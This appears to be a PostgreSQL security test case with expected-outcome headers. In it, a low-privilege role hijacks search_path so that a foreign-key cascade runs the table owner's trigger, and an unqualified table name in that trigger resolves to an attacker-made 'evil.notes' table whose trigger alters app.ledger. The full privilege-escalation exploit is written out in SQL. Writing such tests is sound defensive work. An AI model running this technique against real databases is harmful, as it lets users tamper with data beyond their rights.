-- A foreign key runs a trigger as the owner, and whoever deletes chooses what its names mean
-- expect: B
-- base: revoked
-- loses: immutability
--> setup
CREATE SCHEMA evil AUTHORIZATION {x};
SET ROLE {owner};
CREATE TABLE app.parent (id int PRIMARY KEY);
INSERT INTO app.parent VALUES (1);
CREATE TABLE app.child (id int REFERENCES app.parent ON DELETE CASCADE);
INSERT INTO app.child VALUES (1);
CREATE TABLE app.notes (line text);
CREATE FUNCTION app.note() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO notes VALUES ('deleted'); RETURN OLD; END $$;
CREATE TRIGGER note BEFORE DELETE ON app.child FOR EACH ROW EXECUTE FUNCTION app.note();
GRANT SELECT, DELETE ON app.parent TO {x};
RESET ROLE;
--> as x
CREATE TABLE evil.notes (line text);
CREATE FUNCTION evil.go() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN UPDATE app.ledger SET status = ''changed''; RETURN NEW; END';
CREATE TRIGGER go BEFORE INSERT ON evil.notes FOR EACH ROW EXECUTE FUNCTION evil.go();
GRANT USAGE ON SCHEMA evil TO {owner};
GRANT INSERT ON evil.notes TO {owner};
SET search_path = evil;
DELETE FROM app.parent;
